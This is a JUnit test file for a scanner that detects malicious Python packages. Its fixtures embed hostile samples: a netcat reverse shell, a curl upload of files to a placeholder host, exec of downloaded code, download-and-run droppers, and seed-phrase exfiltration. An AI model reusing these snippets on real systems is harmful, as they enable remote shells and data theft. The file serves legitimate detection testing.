package dev.kingsnake.rules;

import dev.kingsnake.Confidence;
import dev.kingsnake.PythonSource;
import dev.kingsnake.Severity;
import dev.kingsnake.rules.RecordingSink.Reported;
import dev.kingsnake.rules.exec.ComputedImportRule;
import dev.kingsnake.rules.exec.DecodedCodeExecutionRule;
import dev.kingsnake.rules.exec.DownloadedCodeExecutionRule;
import dev.kingsnake.rules.exfil.KeyMaterialSendRule;
import dev.kingsnake.rules.exfil.SecretFilesRule;
import dev.kingsnake.rules.network.DownloadRule;
import dev.kingsnake.rules.obfuscation.ObfuscatorMarkerRule;
import dev.kingsnake.rules.persistence.DropperRule;
import dev.kingsnake.rules.process.DownloadAndRunCommandRule;
import dev.kingsnake.rules.process.EncodedCommandRule;
import dev.kingsnake.rules.process.ShellCommandRule;
import dev.kingsnake.spi.PythonFileRule;
import org.junit.jupiter.api.Test;

import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Rules that look through functions defined in the same file (helpers that run, decode, download or save),
 * on real parsed source: the graded severity, and the look-alikes that must stay quiet.
 */
class HelperFunctionRulesTest {

    private static List<Reported> run(PythonFileRule rule, String source) {
        return run(rule, "pkg/mod.py", source);
    }

    private static List<Reported> run(PythonFileRule rule, String path, String source) {
        return RecordingSink.run(rule, PythonSource.parse(path, source));
    }

    @Test
    void anExecutableNameHandedToADownloadHelperMakesTheDownloadHigh() {
        String src = "import requests\n"
                + "def save(url, name):\n"
                + "    data = requests.get(url).content\n"
                + "    with open(name, 'wb') as f:\n"
                + "        f.write(data)\n"
                + "def main():\n"
                + "    target = 'tool.exe'\n"
                + "    save('https://cdn.example.invalid/t', target)\n";
        List<Reported> r = run(new DownloadRule(), src);
        assertEquals(1, r.size(), r.toString());
        assertEquals(Severity.HIGH, r.get(0).severity());
        List<Reported> data = run(new DownloadRule(), src.replace("tool.exe", "model.bin"));
        assertEquals(Severity.LOW, data.get(0).severity(), data.toString());
    }

    @Test
    void helpersSharingTheSavedPathAreADropperButUnrelatedHelpersAreNot() {
        String src = "import requests, subprocess\n"
                + "def download(url, path):\n"
                + "    r = requests.get(url)\n"
                + "    with open(path, 'wb') as f:\n"
                + "        f.write(r.content)\n"
                + "def launch(path):\n"
                + "    subprocess.Popen([path])\n"
                + "def main():\n"
                + "    download('https://cdn.example.invalid/u', 'u.bin')\n"
                + "    launch('u.bin')\n";
        List<Reported> r = run(new DropperRule(), src);
        assertEquals(1, r.size(), r.toString());
        assertEquals(new Reported(7, Severity.HIGH, Confidence.MEDIUM, r.get(0).message()), r.get(0));
        // a build script that downloads one thing and runs a tool on another file: medium at most
        List<Reported> build = run(new DropperRule(), src.replace("launch('u.bin')", "launch('other.cfg')"));
        assertEquals(1, build.size(), build.toString());
        assertEquals(Severity.MEDIUM, build.get(0).severity());
    }

    @Test
    void runningTheVeryFileJustDownloadedIsCriticalMarkingAFileExecutableIsHigh() {
        String src = "import os, subprocess, requests\n"
                + "def fetch(url, path):\n"
                + "    r = requests.get(url)\n"
                + "    with open(path, 'wb') as f:\n"
                + "        f.write(r.content)\n"
                + "    subprocess.run([path])\n";
        List<Reported> r = run(new DropperRule(), src);
        assertEquals(1, r.size(), r.toString());
        assertEquals(new Reported(6, Severity.CRITICAL, Confidence.HIGH, r.get(0).message()), r.get(0));
        // marking the file executable is HIGH when the code names the server; a download utility whose URL is its
        // caller's is LOW (real sdists' tool fetchers), and running the file is never lowered (above)
        List<Reported> chmod = run(new DropperRule(), src
                .replace("requests.get(url)", "requests.get('https://example.invalid/agent')")
                .replace("subprocess.run([path])", "os.chmod(path, 0o755)"));
        assertEquals(1, chmod.size(), chmod.toString());
        assertEquals(Severity.HIGH, chmod.get(0).severity());
        List<Reported> utility = run(new DropperRule(), src.replace("subprocess.run([path])", "os.chmod(path, 0o755)"));
        assertEquals(1, utility.size(), utility.toString());
        assertEquals(Severity.LOW, utility.get(0).severity());
    }

    @Test
    void hidingSeveralDifferentPrimitivesIsHighOneIsMedium() {
        String one = "import builtins\n"
                + "run = getattr(builtins, 'ex' + 'ec')\n";
        List<Reported> r = run(new ComputedImportRule(), one);
        assertEquals(1, r.size(), r.toString());
        assertEquals(Severity.MEDIUM, r.get(0).severity());
        String two = one + "imp = getattr(builtins, ''.join(chr(c) for c in [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))\n";
        List<Reported> both = run(new ComputedImportRule(), two);
        assertEquals(2, both.size(), both.toString());
        assertTrue(both.stream().allMatch(x -> x.severity() == Severity.HIGH && x.confidence() == Confidence.HIGH),
                both.toString());
        // the same name hidden twice is still one hidden name
        List<Reported> same = run(new ComputedImportRule(), one + "again = getattr(builtins, 'e' + 'xec')\n");
        assertTrue(same.stream().allMatch(x -> x.severity() == Severity.MEDIUM), same.toString());
    }

    @Test
    void codeFetchedFromAUrlIsCriticalCodeReceivedOnASocketIsHigh() {
        String src = "import requests, socket\n"
                + "def update():\n"
                + "    exec(requests.get('https://example.invalid/p').text)\n"
                + "def serve(sock):\n"
                + "    reply = sock.recv(4096)\n"
                + "    exec(reply)\n"
                + "def other():\n"
                + "    reply = open('local.py').read()\n"
                + "    exec(reply)\n";
        List<Reported> r = run(new DownloadedCodeExecutionRule(), src);
        assertEquals(List.of(3, 6), r.stream().map(Reported::line).toList(), r.toString());
        assertEquals(Severity.CRITICAL, r.get(0).severity());
        assertEquals(Severity.HIGH, r.get(1).severity());
        assertEquals(Confidence.MEDIUM, r.get(1).confidence());
    }

    @Test
    void decodingWhatAParentPipesInIsIpcNotAHiddenPayload() {
        String src = "import base64, marshal, os, sys, subprocess, pickle, zlib\n"
                + "def worker():\n"
                + "    line = sys.stdin.readline()\n"
                + "    exec(marshal.loads(base64.b64decode(line.strip())))\n"
                + "    cmd, kw = pickle.loads(base64.b64decode(sys.stdin.readline()))\n"
                + "    subprocess.Popen(cmd, **kw)\n"
                + "BLOB = 'cHJpbnQoMSk='\n"
                + "exec(base64.b64decode(BLOB))\n"
                + "def child(fd):\n"
                + "    with os.fdopen(fd, 'r') as pipe:\n"
                + "        first = pipe.readline()\n"
                + "    exec(marshal.loads(base64.b64decode(first.strip())))\n"
                + "def assemble(stdin):\n"
                + "    exec(compile(zlib.decompress(stdin.read(4096)), 'm', 'exec'))\n"
                + "def run_next(read_fh):\n"
                + "    exec(marshal.loads(base64.b64decode(read_fh.readline().strip())))\n";
        List<Reported> code = run(new DecodedCodeExecutionRule(), src);
        assertEquals(List.of(4, 4, 5, 8, 12, 12, 14, 14, 16, 16), code.stream().map(Reported::line).toList(), code.toString());
        assertTrue(code.stream().filter(x -> x.line() != 8).allMatch(x -> x.severity() == Severity.LOW),
                code.toString());
        assertEquals(Severity.HIGH, code.get(3).severity());
        List<Reported> cmd = run(new EncodedCommandRule(), src);
        assertEquals(1, cmd.size(), cmd.toString());
        assertEquals(Severity.LOW, cmd.get(0).severity());
        String runner = "import subprocess, sys\n"
                + "subprocess.Popen([sys.executable, '-c', 'import sys; script = sys.stdin.read(); exec(script)'])\n"
                + "subprocess.Popen(['python', '-c', 'import base64; exec(base64.b64decode(sys.stdin.read()))'])\n";
        List<Reported> runners = run(new EncodedCommandRule(), runner);
        assertEquals(List.of(Severity.LOW, Severity.HIGH), runners.stream().map(Reported::severity).toList(),
                runners.toString());
    }

    @Test
    void oneLineOfALineProtocolIsIpcAWholeNamedFileIsNot() {
        String src = "import base64, marshal, os, sys\n"
                + "read_fd = int(sys.argv[1])\n"
                + "with open(read_fd, 'rb') as read_fh:\n"
                + "    sys.path = marshal.loads(base64.b64decode(read_fh.readline()))\n"
                + "class Child:\n"
                + "    def __enter__(self):\n"
                + "        self._read_handle = os.fdopen(int(sys.argv[2]), 'rb')\n"
                + "    def call(self):\n"
                + "        return marshal.loads(base64.b64decode(self._read_handle.readline()))\n"
                + "with open('payload.txt') as fh:\n"
                + "    exec(base64.b64decode(fh.readline()))\n"
                + "blob = open('stage.bin').read()\n"
                + "exec(base64.b64decode(blob))\n";
        List<Reported> r = run(new DecodedCodeExecutionRule(), src);
        assertEquals(List.of(4, 9, 11, 13), r.stream().map(Reported::line).toList(), r.toString());
        assertEquals(List.of(Severity.LOW, Severity.LOW, Severity.HIGH, Severity.HIGH),
                r.stream().map(Reported::severity).toList(), r.toString());
    }

    @Test
    void buildScratchFilesInTheTemporaryDirectoryAreLowProgramsThereAreNot() {
        String src = "import os, shutil, tempfile\n"
                + "from pathlib import Path\n"
                + "version_file = Path(tempfile.gettempdir(), 'pkg.version.txt')\n"
                + "version_file.write_text('1.0')\n"
                + "shutil.copyfile('LICENSE', os.path.join(tempfile.gettempdir(), 'License.txt'))\n"
                + "shutil.copy('agent.bin', os.path.join(tempfile.gettempdir(), 'agent.exe'))\n"
                + "open(os.path.join(tempfile.mkdtemp(), 'shell.php'), 'w').write(data)\n"
                + "open(os.path.join(tempfile.gettempdir(), name), 'w').write(data)\n"
                + "open(os.path.join(os.path.expanduser('~'), 'notes.txt'), 'w').write(data)\n";
        List<Reported> r = run(new dev.kingsnake.rules.install.InstallFileWriteRule(), "setup.py", src);
        assertEquals(List.of(4, 5, 6, 7, 8, 9), r.stream().map(Reported::line).toList(), r.toString());
        assertEquals(List.of(Severity.LOW, Severity.LOW, Severity.MEDIUM, Severity.MEDIUM, Severity.MEDIUM,
                        Severity.MEDIUM),
                r.stream().map(Reported::severity).toList(), r.toString());
    }

    @Test
    void severalCredentialStoresWeighFullyOnlyWhereTheFileSendsData() {
        String src = "import os\n"
                + "PASSWD = '/etc/passwd'\n"
                + "SHADOW = '/etc/shadow'\n";
        List<Reported> admin = run(new SecretFilesRule(), src);
        assertEquals(2, admin.size(), admin.toString());
        assertTrue(admin.stream().allMatch(x -> x.severity() == Severity.MEDIUM), admin.toString());
        List<Reported> sent = run(new SecretFilesRule(), src + "import requests\n"
                + "def report(data):\n"
                + "    requests.post('https://collect.example.invalid/', data=data)\n");
        assertTrue(sent.stream().allMatch(x -> x.severity() == Severity.HIGH), sent.toString());
        // the upload is a curl command kept in a variable
        List<Reported> curl = run(new SecretFilesRule(), src + "def upload(home):\n"
                + "    cmd = 'curl -k -F \"file=@' + home + '/logs.zip\" https://collect.example.invalid/up'\n"
                + "    os.system(cmd)\n");
        assertTrue(curl.stream().allMatch(x -> x.severity() == Severity.HIGH), curl.toString());
    }

    @Test
    void aCommandBuiltFromTheProgramsOwnSocketIsNotFetched() {
        String src = "import requests, shlex, socket, subprocess\n"
                + "def start(binary):\n"
                + "    sock = socket.socket()\n"
                + "    sock.bind(('localhost', 0))\n"
                + "    port = sock.getsockname()[1]\n"
                + "    cmd = shlex.split(' '.join([binary, '--listen', f'http://localhost:{port}']))\n"
                + "    subprocess.Popen(cmd)\n"
                + "def update():\n"
                + "    tool = requests.get('https://example.invalid/tool').text\n"
                + "    subprocess.Popen(shlex.split(tool))\n";
        List<Reported> r = run(new DownloadAndRunCommandRule(), src);
        assertEquals(List.of(10), r.stream().map(Reported::line).toList(), r.toString());
    }

    @Test
    void aProcessHelperIsJudgedByWhatItsCallersPass() {
        String src = "import subprocess\n"
                + "def run(cmd):\n"
                + "    return subprocess.Popen(cmd, shell=True).wait()\n"
                + "run('make -j4')\n"
                + "run(compute())\n"
                + "run('nc -e /bin/sh example.invalid 4444')\n";
        List<Reported> r = run(new ShellCommandRule(), src);
        // the helper's own computed call (line 3) and the network tool (line 6); neither the build tool nor
        // the computed argument (which would only repeat line 3) is reported at the call sites
        assertEquals(List.of(3, 6), r.stream().map(Reported::line).toList(), r.toString());
        assertEquals(Severity.MEDIUM, r.get(1).severity());
    }

    @Test
    void aDecoderHelperMakesItsResultDecodedButAnyOtherHelperDoesNot() {
        String src = "import base64, os\n"
                + "def b64d(s):\n"
                + "    raw = base64.b64decode(s.encode('ascii'))\n"
                + "    return raw.decode('ascii')\n"
                + "def banner():\n"
                + "    data = base64.b64decode('aGVsbG8=')\n"
                + "    return 'echo ' + str(len(data))\n"
                + "os.system(b64d('ZWNobyBoaQ=='))\n"
                + "os.system(banner())\n";
        List<Reported> r = run(new EncodedCommandRule(), src);
        assertEquals(List.of(8), r.stream().map(Reported::line).toList(), r.toString());
    }

    @Test
    void privateKeysNeedAWalletContextSeedPhrasesDoNot() {
        String api = "import requests\n"
                + "def verify(private_key, token):\n"
                + "    return requests.post('https://captcha.example.invalid/v', data={'secret': private_key})\n";
        assertEquals(List.of(), run(new KeyMaterialSendRule(), api));
        assertEquals(1, run(new KeyMaterialSendRule(), api.replace("import requests\n",
                "import requests\nRPC = 'https://solana.example.invalid'\n")).size());
        String seed = "import requests\n"
                + "def backup(seed_phrase):\n"
                + "    requests.post('https://collect.example.invalid/s', json={'w': seed_phrase})\n";
        List<Reported> r = run(new KeyMaterialSendRule(), seed);
        assertEquals(1, r.size(), r.toString());
        assertTrue(r.get(0).message().contains("seed_phrase"), r.toString());
    }

    @Test
    void anObfuscatedInstallScriptIsHighAnObfuscatedModuleMedium() {
        String src = "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'x')\n";
        List<Reported> setup = run(new ObfuscatorMarkerRule(), "setup.py", src);
        assertEquals(1, setup.size(), setup.toString());
        assertEquals(Severity.HIGH, setup.get(0).severity());
        List<Reported> module = run(new ObfuscatorMarkerRule(), "pkg/core.py", src);
        assertEquals(Severity.MEDIUM, module.get(0).severity(), module.toString());
    }
}
